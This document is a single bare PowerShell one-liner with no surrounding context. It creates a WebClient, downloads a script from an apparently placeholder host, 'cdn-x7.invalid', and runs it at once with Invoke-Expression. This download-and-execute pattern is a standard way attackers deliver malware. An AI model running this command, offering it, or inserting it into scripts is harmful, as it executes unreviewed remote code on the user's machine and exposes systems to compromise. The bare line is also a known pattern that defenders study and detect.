iex ((New-Object Net.WebClient).DownloadString('https://cdn-x7.invalid/a.ps1'))
